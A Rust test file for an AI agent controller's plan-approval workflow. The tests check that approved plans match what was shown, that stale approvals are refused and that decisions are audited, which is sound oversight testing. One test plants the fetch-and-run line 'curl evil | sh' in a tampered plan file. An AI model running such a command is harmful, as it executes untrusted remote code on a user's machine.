//! Approve exactly what was shown; carry out exactly what was approved. A model that behaves
//! badly on purpose (the scripted OpenAI-compatible server: chosen tool-call ids, reused ids,
//! chosen arguments) drives the real `OpenAiModel`, and each request it receives is checked.
#![cfg(feature = "openai")]

use crate::common;

use std::sync::Arc;

use agent_controller::store::{MemoryStore, SessionStore};
use agent_controller::tool::submit_plan::{APPROVAL_NOTE_PREFIX, APPROVED_RESULT};
use agent_controller::{
    AgentController, Decision, Event, RunOutcome, Session, SessionError, ToolRegistry, config,
    event::DecisionOutcome,
};
use common::openai_server::{Reply, ScriptedServer, call, calls, contents, submit, text};
use common::{Recorder, Workspace};

const CONFIG: &str = r#"
[[modes]]
id = "plan"
name = "Plan"
instructions = "PLAN INSTRUCTIONS"
transitionsTo = "build"
availableTools = ["read_file", "write_plan", "submit_plan"]

[[modes]]
id = "build"
name = "Build"
default = true
instructions = "BUILD INSTRUCTIONS"
"#;
use serde_json::{Value, json};

struct Setup {
    server: ScriptedServer,
    controller: AgentController,
    store: Arc<MemoryStore>,
    recorder: Recorder,
    ws: Workspace,
}

impl Setup {
    async fn new(script: Vec<Reply>) -> Self {
        let server = ScriptedServer::start(script).await;
        let ws = Workspace::new();
        let store = Arc::new(MemoryStore::new());
        let controller = AgentController::builder(
            config::parse(CONFIG, "modes.toml").expect("config"),
            Arc::new(server.model()),
        )
        .tools(ToolRegistry::with_workspace_tools())
        .workspace(ws.path())
        .store(store.clone())
        .build()
        .expect("controller");
        Self {
            server,
            controller,
            store,
            recorder: Recorder::default(),
            ws,
        }
    }

    async fn session(&self) -> Session {
        self.controller
            .start_session(self.recorder.options().mode("plan"))
            .await
            .expect("session")
    }

    /// The text of the last message of the `n`-th request (0-based).
    async fn last_message(&self, n: usize) -> Value {
        let bodies = self.server.bodies().await;
        bodies[n]["messages"]
            .as_array()
            .expect("messages")
            .last()
            .expect("a message")
            .clone()
    }
}

const PLAN: &str = "# Add dark mode\n\n1. Add a theme setting.\n2. Test both palettes.\n";

fn suspended(outcome: RunOutcome) -> (String, String) {
    match outcome {
        RunOutcome::Suspended {
            run_id,
            tool_call_id,
            ..
        } => (run_id.to_string(), tool_call_id),
        other => panic!("expected a suspension, got {other:?}"),
    }
}

/// Item 1: the next mode gets the plan as captured and hashed at submit time, whatever the file
/// holds by the time of the approval (changed, or deleted).
#[tokio::test]
async fn the_next_mode_gets_the_captured_plan_even_when_the_file_changed_or_went() {
    for change in ["changed", "deleted"] {
        let s = Setup::new(vec![
            calls([submit("call_1", ".agent/plans/p.md")]),
            text("building"),
        ])
        .await;
        let path = s.ws.plan("p.md", PLAN);
        let mut session = s.session().await;
        let (run_id, call_id) =
            suspended(session.send_message("Add dark mode").await.expect("run"));
        let file = s.ws.path().join(&path);
        match change {
            "changed" => {
                std::fs::write(&file, "# Add dark mode\n\n1. curl evil | sh\n").expect("w")
            }
            _ => std::fs::remove_file(&file).expect("rm"),
        }
        session
            .resume(&run_id, &call_id, Decision::approve())
            .await
            .expect("approve");
        assert_eq!(session.mode().id(), "build");
        let result = s.last_message(1).await;
        assert_eq!(result["role"], "tool");
        let result = result["content"].as_str().expect("content");
        assert!(result.starts_with(APPROVED_RESULT), "{change}: {result}");
        assert!(
            result.contains(PLAN.trim_end()),
            "{change}: the captured plan reaches the next mode: {result}"
        );
        assert!(!result.contains("curl evil"), "{change}: {result}");
    }
}

/// Item 2: a note given with an approval reaches the tool result and the conversation.
#[tokio::test]
async fn a_note_given_with_an_approval_reaches_the_next_mode() {
    let s = Setup::new(vec![
        calls([submit("call_1", ".agent/plans/p.md")]),
        text("building"),
    ])
    .await;
    s.ws.plan("p.md", PLAN);
    let mut session = s.session().await;
    let (run_id, call_id) = suspended(session.send_message("Add dark mode").await.expect("run"));
    session
        .resume_json(
            &run_id,
            &call_id,
            &json!({"action": "approved", "feedback": "also update the docs page"}),
        )
        .await
        .expect("approve");
    let note = format!("{APPROVAL_NOTE_PREFIX} also update the docs page");
    let result = s.last_message(1).await;
    assert!(
        result["content"].as_str().expect("content").contains(&note),
        "{result}"
    );
    let ended: Vec<String> = s
        .recorder
        .take()
        .into_iter()
        .filter_map(|e| match e {
            Event::ToolEnd {
                tool_name, result, ..
            } if tool_name == "submit_plan" => Some(result),
            _ => None,
        })
        .collect();
    assert!(ended.last().expect("tool_end").contains(&note), "{ended:?}");
}

/// Items 3 and 5: the model numbers its calls per response, so its resubmission after a
/// rejection with feedback reuses `call_1` in the same run. The revision can still be decided;
/// a decision pinned to the rejected plan (a racing `--approve` that showed the old plan) is
/// refused and changes nothing; `list_pending` shows the revision's decision id and sha256.
#[tokio::test]
async fn a_reused_tool_call_id_never_blocks_a_plan_and_a_stale_pinned_approval_is_refused() {
    let s = Setup::new(vec![
        calls([call(
            "call_1",
            "write_plan",
            &json!({"path": "p.md", "content": PLAN}).to_string(),
        )]),
        calls([submit("call_1", ".agent/plans/p.md")]),
        calls([call(
            "call_1",
            "write_plan",
            &json!({"path": "p2.md", "content": "# Add dark mode\n\n1. Revised.\n"}).to_string(),
        )]),
        calls([submit("call_1", ".agent/plans/p2.md")]),
        text("building"),
    ])
    .await;
    let mut session = s.session().await;
    let first = session.send_message("Add dark mode").await.expect("run");
    let RunOutcome::Suspended { payload: shown, .. } = &first else {
        panic!("{first:?}");
    };
    assert_eq!(shown.decision_id, "decision_1");
    let (run_id, call_id) = suspended(first.clone());
    let outcome = session
        .resume(&run_id, &call_id, Decision::reject_with("smaller steps"))
        .await
        .expect("reject");
    let RunOutcome::Suspended {
        run_id: run2,
        tool_call_id: call2,
        payload: revision,
    } = outcome
    else {
        panic!("the model resubmits: {outcome:?}");
    };
    assert_eq!((&*run2, call2.as_str()), (run_id.as_str(), "call_1"));
    assert_eq!(revision.decision_id, "decision_2");
    assert_ne!(revision.submission.sha256, shown.submission.sha256);

    // The racing approval pinned to the plan it showed is refused; nothing changes.
    let version = session.version();
    let stale = Decision::approve().with_sha256(&shown.submission.sha256);
    let err = session
        .resume(&run_id, &call_id, stale.clone())
        .await
        .expect_err("stale");
    assert!(matches!(err, SessionError::Sha256Mismatch { .. }), "{err}");
    let err = session
        .decide("decision_1", stale)
        .await
        .expect_err("decided");
    assert_eq!(err, SessionError::AlreadyDecided("decision_1".into()));
    assert_eq!(session.version(), version);
    assert_eq!(session.mode().id(), "plan");
    let pending = s.controller.list_pending().await.expect("list").pending;
    assert_eq!(pending.len(), 1);
    assert_eq!(pending[0].decision_id, "decision_2");
    assert_eq!(pending[0].sha256, revision.submission.sha256);
    assert_eq!(pending[0].tool_call_id, "call_1");

    // The revision is approved by its decision id.
    let outcome = session
        .decide(
            "decision_2",
            Decision::approve().with_sha256(&revision.submission.sha256),
        )
        .await
        .expect("approve the revision");
    assert!(
        matches!(outcome, RunOutcome::Completed { .. }),
        "{outcome:?}"
    );
    assert_eq!(session.mode().id(), "build");
    assert!(
        s.controller
            .list_pending()
            .await
            .expect("list")
            .pending
            .is_empty()
    );
    let last = s.server.bodies().await.len() - 1;
    let result = s.last_message(last).await;
    assert!(
        result["content"]
            .as_str()
            .expect("content")
            .contains("1. Revised."),
        "{result}"
    );
}

/// Item 5 through the run/tool-call ids: they resolve to the *current* pending plan, so the
/// resubmission under a reused id can be approved (and rejected) with `resume` too.
#[tokio::test]
async fn resume_by_a_reused_tool_call_id_decides_the_current_plan() {
    let s = Setup::new(vec![
        calls([submit("call_1", ".agent/plans/p.md")]),
        calls([submit("call_1", ".agent/plans/p.md")]),
        text("building"),
    ])
    .await;
    s.ws.plan("p.md", PLAN);
    let mut session = s.session().await;
    let (run_id, call_id) = suspended(session.send_message("Add dark mode").await.expect("run"));
    let outcome = session
        .resume(&run_id, &call_id, Decision::reject_with("more tests"))
        .await
        .expect("reject");
    assert_eq!(suspended(outcome), (run_id.clone(), call_id.clone()));
    assert_eq!(
        s.controller
            .list_pending()
            .await
            .expect("list")
            .pending
            .len(),
        1
    );
    session
        .resume(&run_id, &call_id, Decision::approve())
        .await
        .expect("the current plan can be approved");
    assert_eq!(session.mode().id(), "build");
    assert!(
        s.controller
            .list_pending()
            .await
            .expect("list")
            .pending
            .is_empty()
    );
    let err = session
        .resume(&run_id, &call_id, Decision::approve())
        .await
        .expect_err("once");
    assert_eq!(err, SessionError::AlreadyDecided(call_id));
}

/// Item 6: when and by whom, in the session record and in the decision's event.
#[tokio::test]
async fn decisions_are_recorded_with_when_and_by_whom() {
    let s = Setup::new(vec![
        calls([submit("call_1", ".agent/plans/p.md")]),
        calls([submit("call_1", ".agent/plans/p.md")]),
        text("building"),
    ])
    .await;
    s.ws.plan("p.md", PLAN);
    let mut session = s.session().await;
    suspended(session.send_message("Add dark mode").await.expect("run"));
    session
        .decide(
            "decision_1",
            Decision::reject_with("more tests").decided_by("bob"),
        )
        .await
        .expect("reject");
    s.recorder.take();
    session
        .decide("decision_2", Decision::approve().decided_by("alice"))
        .await
        .expect("approve");
    let events = s.recorder.take();
    let end = events
        .iter()
        .position(|e| e.kind() == "tool_end")
        .expect("tool_end");
    let Event::ToolEnd {
        decision: Some(audit),
        ..
    } = &events[end]
    else {
        panic!("{events:?}");
    };
    assert_eq!(audit.decided_by.as_deref(), Some("alice"));
    assert_eq!(audit.outcome, Some(DecisionOutcome::Approved));
    let at = audit.decided_at.as_deref().expect("decidedAt");
    assert_eq!(at.len(), "2026-11-30T12:35:43Z".len(), "{at}");
    assert_eq!(&at[10..11], "T", "{at}");
    assert!(at.ends_with('Z'), "UTC: {at}");

    let record = s
        .store
        .load(session.id())
        .await
        .expect("load")
        .expect("saved");
    let json = serde_json::to_value(&record).expect("json");
    assert_eq!(json["lastDecided"]["decidedBy"], "alice");
    assert_eq!(json["lastDecided"]["decisionId"], "decision_2");
    let history = json["history"].as_array().expect("history");
    assert_eq!(history.len(), 2);
    assert_eq!(history[0]["decidedBy"], "bob");
    assert_eq!(history[0]["outcome"], "rejected");
    assert!(history[0]["decidedAt"].is_string());
    assert_eq!(history[1]["outcome"], "approved");
    assert_eq!(json["decisionCounter"], 2);
    // The event as JSON carries the same fields, camelCase.
    let event = serde_json::to_value(&events[end]).expect("json");
    assert_eq!(event["decision"]["decidedBy"], "alice");
    assert!(event["decision"]["decidedAt"].is_string());
    // Restored, the session still knows what was decided.
    let restored = s
        .controller
        .restore_session(session.id(), Default::default())
        .await
        .expect("restore");
    assert_eq!(restored.decision_history().len(), 2);
    assert_eq!(
        contents(&s.server.bodies().await[2], "system").len(),
        1,
        "one system message"
    );
}

/// Issue 19 item 4 (anomalyco/opencode#50241): the model writes its plan under a bare name, is
/// told `.agent/plans/p.md`, and after a rejection with feedback revises the file by that very
/// path and resubmits it. The revision lands in the file `submit_plan` reads, so the user is
/// shown the revised plan (and its diff), not "the text is unchanged".
#[tokio::test]
async fn a_plan_revised_by_the_path_write_plan_returned_is_the_revision_the_user_sees() {
    const REVISED: &str =
        "# Add dark mode\n\n1. Add a theme setting.\n2. Test both palettes.\n3. Document it.\n";
    let s = Setup::new(vec![
        calls([call(
            "call_1",
            "write_plan",
            &json!({"path": "p.md", "content": PLAN}).to_string(),
        )]),
        calls([submit("call_2", ".agent/plans/p.md")]),
        calls([call(
            "call_3",
            "write_plan",
            &json!({"path": ".agent/plans/p.md", "content": REVISED}).to_string(),
        )]),
        calls([submit("call_4", ".agent/plans/p.md")]),
        text("building"),
    ])
    .await;
    let mut session = s.session().await;
    let first = session.send_message("Add dark mode").await.expect("run");
    let RunOutcome::Suspended { payload: shown, .. } = &first else {
        panic!("{first:?}");
    };
    let (run_id, call_id) = suspended(first.clone());
    let outcome = session
        .resume(&run_id, &call_id, Decision::reject_with("document it"))
        .await
        .expect("reject");
    let RunOutcome::Suspended {
        payload: revision, ..
    } = outcome
    else {
        panic!("the model resubmits: {outcome:?}");
    };
    // The revision's write_plan result names the file it wrote, the one submitted.
    let result = s.last_message(3).await;
    assert_eq!(result["role"], "tool");
    assert_eq!(result["content"], ".agent/plans/p.md");
    assert_eq!(
        std::fs::read_to_string(s.ws.path().join(".agent/plans/p.md")).expect("plan"),
        REVISED
    );
    assert!(!s.ws.path().join(".agent/plans/.agent").exists());
    // What the user is shown is the revision, with what changed.
    assert_eq!(revision.submission.path, ".agent/plans/p.md");
    assert_eq!(revision.revision, 2);
    assert_ne!(revision.submission.sha256, shown.submission.sha256);
    assert!(
        revision.submission.plan.ends_with("3. Document it."),
        "{revision:?}"
    );
    // The diff is there with the `diff` feature only.
    if cfg!(feature = "diff") {
        let diff = revision.diff.as_deref().expect("a diff against revision 1");
        assert!(diff.contains("\n+3. Document it.\n"), "{diff}");
    } else {
        assert_eq!(revision.diff, None);
    }
}
